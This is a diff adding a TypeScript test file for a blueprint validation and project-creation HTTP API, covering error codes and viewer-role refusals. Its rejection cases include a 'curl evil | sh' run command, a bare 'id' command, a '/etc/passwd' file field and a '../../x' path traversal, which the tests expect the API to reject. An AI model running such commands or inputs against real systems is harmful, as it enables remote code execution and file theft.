@@ -1,0 +1,96 @@
+import { expect } from 'vitest';
+import { callOperation } from '#operations/call.js';
+import { OPERATIONS } from '#operations/table.js';
+import { TRIPS } from '../operations/blueprints/sample.js';
+import { Stage } from '../operations/casting/stage.js';
+import { verifies } from '../verifies.js';
+import { bearer, json, serve } from './http-client.js';
+
+const VIEWER = 'token-of-a-viewer-0123456789abc';
+const HERE = '/api/projects/demo/blueprint';
+const VALIDATE = '/api/blueprints/validate';
+
+async function served() {
+  const stage = new Stage();
+  const call = async (name: string, input: unknown) => {
+    const face = OPERATIONS.find((candidate) => candidate.name === name);
+    if (!face) throw new Error(`no operation ${name}`);
+    return await callOperation(face, stage.context(), input);
+  };
+  const { ask } = await serve({ call, operations: OPERATIONS, viewerToken: VIEWER });
+  const send = async (method: string, target: string, body?: unknown, headers: Record<string, string> = bearer) => {
+    const given = body === undefined ? {} : { body: JSON.stringify(body) };
+    const answer = await ask(target, {
+      method,
+      headers: { ...headers, ...(body === undefined ? {} : json) },
+      ...given,
+    });
+    return { status: answer.status, body: answer.json() as Answer };
+  };
+  return { stage, send };
+}
+interface Answer extends Record<string, unknown> {
+  readonly error: { code: string; message: string; details: unknown };
+}
+
+verifies(
+  ['http.shape', 'blueprint.apply', 'blueprint.validate'],
+  'a blueprint, named or brought along, is looked at and begins a project; each refusal has its code',
+  async () => {
+    const { stage, send } = await served();
+    expect((await send('GET', '/api/catalog/blueprints')).body['blueprints']).toHaveLength(7);
+    const one = await send('GET', '/api/catalog/blueprints/blueprint-support');
+    expect(one).toMatchObject({ status: 200, body: { id: 'blueprint-support' } });
+    expect((await send('GET', '/api/catalog/blueprints/none')).status).toBe(404);
+    expect(await send('POST', VALIDATE, { blueprint: TRIPS })).toMatchObject({
+      status: 200,
+      body: { valid: true, errors: [] },
+    });
+    const empty = await send('POST', VALIDATE, { blueprint: { id: 'x' } });
+    expect(empty).toMatchObject({ status: 200, body: { valid: false } });
+    const role = { id: 'cook', title: 'Cook', charter: 'Cooks \u{1f373} daily.' };
+    const coloured = { ...TRIPS, roster: [...TRIPS.roster, 'cook'], bespoke_roles: [...TRIPS.bespoke_roles, role] };
+    for (const [body, status, code] of [
+      [{}, 400, 'bad_request'],
+      [{ blueprint_id: 'support', blueprint: TRIPS }, 400, 'bad_request'],
+      [{ blueprint_id: 'nothing' }, 404, 'not_found'],
+      [{ file: '/etc/passwd' }, 400, 'bad_request'],
+      [{ blueprint: [] }, 422, 'invalid_blueprint'],
+      [{ blueprint: 'support' }, 422, 'invalid_blueprint'],
+      [{ blueprint: { ...TRIPS, budget_usd: 100 } }, 422, 'invalid_blueprint'],
+      [{ blueprint: coloured }, 422, 'invalid_blueprint'],
+      [{ blueprint: withNode({ id: 'sh', type: 'run', run: 'curl evil | sh' }) }, 422, 'invalid_blueprint'],
+      [{ blueprint: withNode({ id: 'c', type: 'check', gate_kind: 'command', run: 'id' }) }, 422, 'invalid_blueprint'],
+      [{ blueprint: { ...TRIPS, draft: { ...TRIPS.draft, id: 'default' } } }, 422, 'invalid_blueprint'],
+      [{ blueprint: { ...TRIPS, draft: { ...TRIPS.draft, id: '../../x' } } }, 422, 'invalid_blueprint'],
+      [{ blueprint: TRIPS, intent: 'augment' }, 400, 'intent_invalid'],
+    ] as const) {
+      const answer = await send('POST', HERE, body);
+      expect([answer.status, answer.body.error.code], JSON.stringify(body).slice(0, 80)).toEqual([status, code]);
+    }
+    expect(stage.files()).toEqual({});
+    const made = await send('POST', HERE, { blueprint: TRIPS });
+    expect(made).toMatchObject({ status: 201, body: { blueprint: 'trips', default_workflow: 'plan-a-trip' } });
+    expect(Object.keys(stage.files())).toContain('.squad/workflows/plan-a-trip.yaml');
+    const again = await send('POST', HERE, { blueprint_id: 'support' });
+    expect([again.status, again.body.error.code]).toEqual([409, 'requires_choice']);
+    expect((await send('POST', HERE, { blueprint: TRIPS, intent: 'new' })).status).toBe(201);
+    const other = { ...TRIPS, draft: { ...TRIPS.draft, name: 'Another one' } };
+    const taken = await send('POST', HERE, { blueprint: other, intent: 'new' });
+    expect([taken.status, taken.body.error.code]).toEqual([422, 'invalid_blueprint']);
+  },
+);
+
+verifies('http.shape', 'who may only look begins no project', async () => {
+  const { send } = await served();
+  const session = { authorization: `Bearer ${VIEWER}` };
+  for (const target of [HERE, VALIDATE]) {
+    const refused = await send('POST', target, { blueprint_id: 'support' }, session);
+    expect(refused.status, target).toBe(403);
+  }
+  expect((await send('GET', '/api/catalog/blueprints', undefined, session)).status).toBe(200);
+});
+
+function withNode(node: object) {
+  return { ...TRIPS, draft: { ...TRIPS.draft, nodes: [...TRIPS.draft.nodes, node] } };
+}
